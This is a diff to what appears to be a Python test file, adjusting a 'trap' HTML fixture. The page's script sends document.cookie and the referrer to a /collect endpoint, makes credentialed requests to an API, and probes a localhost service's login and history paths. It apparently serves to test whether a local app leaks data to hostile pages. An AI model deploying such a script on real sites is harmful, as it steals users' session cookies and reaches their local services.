@@ -20,8 +20,9 @@ if TYPE_CHECKING:
 
 TRAP = b"""<!doctype html><title>a harmless page</title>
 <iframe src="/api/state"></iframe><img src="/m/a/1"><script>
-fetch("/api/exchanges", {credentials: "include"});
-fetch("/collect?" + encodeURIComponent(document.cookie + "|" + document.referrer + "|" + name));
+fetch("/api/exchanges", {credentials: "include"}).catch(() => 0);
+fetch("/collect?" + encodeURIComponent(document.cookie + "|" + document.referrer + "|" + name))
+  .catch(() => 0);
 for (const path of ["/", "/~/", "/login", "/history"]) {
   fetch(`http://127.0.0.1:DESK${path}`, {credentials: "include", mode: "no-cors"}).catch(() => 0);
 }
